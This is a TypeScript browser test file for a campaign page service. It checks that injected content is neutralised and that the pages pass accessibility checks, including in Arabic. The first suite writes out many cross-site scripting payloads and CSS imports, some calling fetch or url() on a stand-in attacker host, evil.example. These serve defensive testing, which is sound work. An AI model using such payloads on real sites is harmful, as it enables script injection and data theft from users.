import { readFileSync } from 'node:fs';
import { describe, expect } from 'vitest';
import { campaign, type TestPage, testPage } from '../support/service/journeys.ts';
import { service } from '../support/service/service.ts';
import { axeFindings } from './axe.ts';
import { browserTest, desktop, open, phone, screens } from './browser.ts';
import { going, pages } from './welcome-campaign.ts';

const api = await service();

describe('content and contacts', () => {
  const traces = ['alert(1)', 'fetch("https://evil.example/?x")'];
  const attacks = traces.flatMap((trace) => [
    `<script>${trace}</script>`,
    `"><img src=x onerror='${trace}'>`,
    `'><svg onload="${trace}">`,
    `javascript:${trace}`,
    `</style><script>${trace}</script>`,
    `</textarea></title><script>${trace}</script>`,
    `{{name_last}}<iframe srcdoc="<script>${trace}</script>">`,
  ]);
  const attack = attacks.join(' ');
  const css = `* { background: url(https://evil.example/css) } @import "https://evil.example/i.css";
    @font-face { font-family: x; src: url(https://evil.example/f) } body { margin: 0 } header, footer { display: none }
    :root ~ *, .stage { display: none } :root, p { position: fixed; inset: -99px; z-index: 99; contain: none } p { color: red } ${attack}`;
  const everything = { heading: attack, body: attack, text: attack, name: attack, altText: attack, caption: attack };
  const agreed = { agreementText: attack, disagreeText: attack, signatureBoxText: attack, customClass: attack };
  const told = { acceptedConfirmationText: attack, declinedConfirmationText: attack, documentLinkText: attack };
  const types = [
    'heading',
    'text',
    'card',
    'image',
    'button',
    'document_link',
    'agreement',
    'survey',
    'confirm',
    attack,
  ];
  const addresses = attacks.map((url) => ({ url, src: url, documentLinkUrl: url, href: url }));
  const blocks = types.flatMap((type, at) =>
    addresses.map((each, nth) => ({
      type,
      order: at * 100 + nth,
      slug: attack,
      css,
      styles: { color: attack, [attack]: { color: attack }, backgroundImage: 'url(https://evil.example/s)' },
      grid: { xs: attack, md: 6 },
      data: { ...everything, ...agreed, ...told, ...each, questions: [attack, { text: attack, options: [attack] }] },
    })),
  );
  const page: TestPage = testPage('confirm', {
    content_blocks: blocks,
    css,
    styles: { [attack]: { color: 'red' } },
    navigation_title: attack,
    content_name: attack,
    content: attack,
    completion_message: attack,
    cta: { text: attack, url: attacks[0] },
    variables: { [attack]: attack, x: attack },
  });
  const odd = Object.fromEntries(
    ['primary', 'secondary', 'background', 'text', 'surface'].map((name) => [name, attack]),
  );
  const template = {
    name: attack,
    css,
    custom_css: css,
    styles: {
      palette: odd,
      typography: { heading: attack, body: attack },
      custom: { a: attack },
      overrides: { [attack]: odd },
    },
    theme_overrides: { button_radius: attack },
    footer_content: { text: attack, links: attacks.map((url) => ({ text: attack, url })) },
    journey_title_options: { type: 'CONTACT_NAME' },
    content_blocks: blocks.slice(0, 10),
  };

  browserTest('run nothing, load nothing and hide nothing of the frame, whatever they hold', async () => {
    const { start } = await campaign(api, [page, testPage(null, { navigation_title: attack })], template);
    const { url } = await start({ name_first: attack, name_last: attack, meta_public: { [attack]: attack } });
    const { page: opened, seen } = await open(desktop);
    await opened.goto(url);
    await opened.waitForLoadState('networkidle');
    expect(await opened.getByRole('contentinfo').isVisible()).toBe(true);
    expect(await opened.getByRole('banner').isVisible()).toBe(true);
    const top = await opened.evaluate('document.elementFromPoint(640, 20)?.closest("header") !== null');
    expect(top).toBe(true);
    expect(
      await opened.locator('iframe, svg[onload], img[onerror], [onerror], script:not(body > script)').count(),
    ).toBe(0);
    expect(await opened.locator('script').count()).toBe(1);
    expect([seen.outside, seen.dialogs, seen.complaints]).toEqual([[], [], []]);
  });

  browserTest('are stopped by the policy even where an injection got in', async () => {
    const { start } = await going();
    const { page: opened, seen } = await open(desktop);
    await opened.goto((await start()).url);
    await opened.evaluate(`
      const script = document.createElement('script');
      script.textContent = 'alert(1)';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/i"><p style="color:red">x</p>');
    `);
    await expect.poll(() => seen.complaints.length).toBeGreaterThanOrEqual(3);
    expect([seen.outside, seen.dialogs]).toEqual([[], []]);
  });
});

describe('the page is for everybody', () => {
  const sample = JSON.parse(readFileSync(new URL('../../examples/campaigns.json', import.meta.url), 'utf8'));

  browserTest.each(screens)('axe finds nothing serious in any page of the sample campaign %s', async (_, screen) => {
    const [welcome] = sample.templates;
    const samplePages = welcome.template_pages.map(({ page }: { page: TestPage }) => ({
      ...page,
      objective_id: null,
      content_containers: [],
    }));
    const { start } = await campaign(api, samplePages, { ...welcome, template_messages: [] });
    const { url } = await start({ name_first: 'Jana' });
    const { page } = await open(screen);
    const found: string[] = [];
    for (const { id } of samplePages) {
      await page.goto(`${url}?page=${id}`);
      found.push(...(await axeFindings(page)).map((each) => `${id} ${each}`));
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(screen.viewport!.width);
    }
    expect(found).toEqual([]);
  });

  browserTest('and so are the pages that say why there is nothing', async () => {
    const { page } = await open(phone);
    await page.goto(`${api.baseUrl}/j/${'A'.repeat(24)}`);
    expect(await axeFindings(page)).toEqual([]);
  });

  browserTest.each(screens)('and so are the pages in Arabic, from right to left, %s', async (_, screen) => {
    const { start } = await campaign(api, Object.values(pages), { language: 'ar' });
    const { url } = await start();
    const { page, seen } = await open(screen);
    for (const { id } of Object.values(pages)) {
      await page.goto(`${url}?page=${id}`);
      expect(await axeFindings(page)).toEqual([]);
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(screen.viewport!.width);
    }
    await page.goto(`${url}?page=${pages.agree.id}`);
    const leftOf = async (selector: string) => (await page.locator(selector).boundingBox())!.x;
    expect(await leftOf('.onward [rel=next]')).toBeLessThan(await leftOf('.onward [rel=prev]'));
    expect(await leftOf('.progress')).toBeLessThan(await leftOf('h1'));
    await page.route('**/actions', (route) => route.abort());
    await page.getByLabel('Your full name').fill('Jana Novotna');
    await page.getByRole('button', { name: 'أوافق' }).click();
    await page.getByRole('alert').getByText('تعذّر الإرسال').waitFor();
    expect(await page.getByLabel('Your full name').inputValue()).toBe('Jana Novotna');
    expect(seen.dialogs).toEqual([]);
  });
});
